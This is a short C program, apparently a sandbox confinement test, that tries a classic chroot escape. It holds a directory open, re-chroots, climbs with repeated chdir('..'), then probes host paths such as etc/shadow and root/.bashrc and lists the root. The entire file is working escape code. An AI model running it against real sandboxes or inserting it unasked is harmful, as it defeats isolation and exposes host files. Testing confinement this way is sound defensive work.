/* chroot-break: leaves a chroot by a folder held open, then lists what it calls the root. */
#include <dirent.h>
#include "attack.h"
int main(void) {
  mkdir("x", 0755);
  int here = open(".", O_RDONLY | O_DIRECTORY);
  tried("chroot", chroot("x"));
  (void)!fchdir(here);
  for (int i = 0; i < 100; i++) (void)!chdir("..");
  tried("chroot to the top", chroot("."));
  static const char *const host[] = {"root/.bashrc", "home", "sys/kernel", "var/lib", "etc/shadow", "boot"};
  for (size_t i = 0; i < sizeof host / sizeof host[0]; i++) {
    struct stat seen;
    tried(host[i], stat(host[i], &seen));
  }
  DIR *dir = opendir(".");
  for (struct dirent *entry; dir && (entry = readdir(dir));) fprintf(stderr, "%s ", entry->d_name);
  return done();
}
